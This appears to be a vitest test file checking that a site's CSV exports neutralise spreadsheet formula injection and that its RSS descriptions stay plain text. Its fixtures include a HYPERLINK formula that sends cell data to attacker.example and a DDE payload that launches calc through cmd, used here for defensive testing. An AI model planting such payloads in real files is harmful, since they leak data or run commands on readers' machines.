/**
 * Open data and feeds that cannot be turned against their readers, in the built fixture
 * site: text that a spreadsheet would run as a formula is held as text in every CSV (read
 * back with csv-parse, an independent parser), the JSON keeps it exact, /data/ says so,
 * and an RSS description shows its summary as text, never as markup.
 * Fixtures: tests/fixtures/site/audits/appsec.mdx (finding FX-02), progress/week-1.mdx
 * (a status note) and progress/week-2.mdx (a summary with <angle brackets>).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { parse as parseHtml } from 'node-html-parser';
import { describe, expect, inject, it } from 'vitest';
import { fileForPath, readPage } from '../../scripts/lib/dist-files';

const fixture = inject('fixtureDist');
const read = (path: string) => readFileSync(join(fixture, path), 'utf8');
/** Rows of a built CSV file, keyed by its header. */
const csvRows = (path: string): Record<string, string>[] => parseCsv(read(path), { columns: true });

const FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Verbose error pages")';
const NOTE = "-2+3+cmd|' /C calc'!A0 design review started.";

describe('CSV files hold formulas as text', () => {
  it('findings.csv: a finding title that is a formula starts with a single quote', () => {
    const row = csvRows('data/findings.csv').find((r) => r.finding_id === 'FX-02')!;
    expect(row.title).toBe(`'${FORMULA}`);
    expect(read('data/findings.csv')).toContain(`,"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Verbose error pages"")",`);
  });

  it('status-history.csv: a note that starts with "-" starts with a single quote', () => {
    const notes = csvRows('data/status-history.csv').map((r) => r.note);
    expect(notes).toContain(`'${NOTE}`);
    expect(notes).not.toContain(NOTE);
  });

  it('no cell of any CSV file starts like a formula', () => {
    for (const file of ['commitments', 'status-history', 'regions', 'findings', 'webinars']) {
      const rows: string[][] = parseCsv(read(`data/${file}.csv`));
      const risky = rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)));
      expect(risky, file).toEqual([]);
    }
  });

  it('a negative number stays a number (regions.csv longitude)', () => {
    const oregon = csvRows('data/regions.csv').find((r) => r.name === 'US West (Oregon)')!;
    expect(oregon.longitude).toBe('-122.99');
  });

  it('the JSON files keep the exact text', () => {
    const audits = JSON.parse(read('data/audits.json'));
    expect(audits.flatMap((a: any) => a.findings).find((f: any) => f.id === 'FX-02').title).toBe(FORMULA);
    const commitments = JSON.parse(read('data/commitments.json'));
    expect(commitments.flatMap((c: any) => c.history).map((u: any) => u.note)).toContain(NOTE);
  });

  it('/data/ tells readers', () => {
    const text = readPage(fixture, fileForPath(fixture, '/data/')!).querySelector('[data-csv-formulas]')!.text;
    expect(text).toContain('a text value that begins with =, +, -, @, a tab or a carriage return could run as a formula');
    expect(text).toContain("written with a single quote (') in front");
  });
});

describe('RSS descriptions are plain text', () => {
  const SUMMARY = 'Ampersands & <angle brackets> & "quotes" survive: naïve café 🚀 日本語 Ελληνικά.';

  it('the week-2 summary renders as its text, with no element, in every RSS feed that carries it', () => {
    for (const file of ['rss.xml', 'progress/rss.xml']) {
      const channel = new XMLParser({ isArray: (name) => name === 'item' }).parse(read(file)).rss.channel;
      const item = channel.item.find((i: { link: string }) => i.link.endsWith('/progress/week-2/'));
      const html = parseHtml(item.description as string);
      expect(html.querySelectorAll('*'), file).toHaveLength(0);
      expect(html.text, file).toBe(SUMMARY);
    }
  });
});
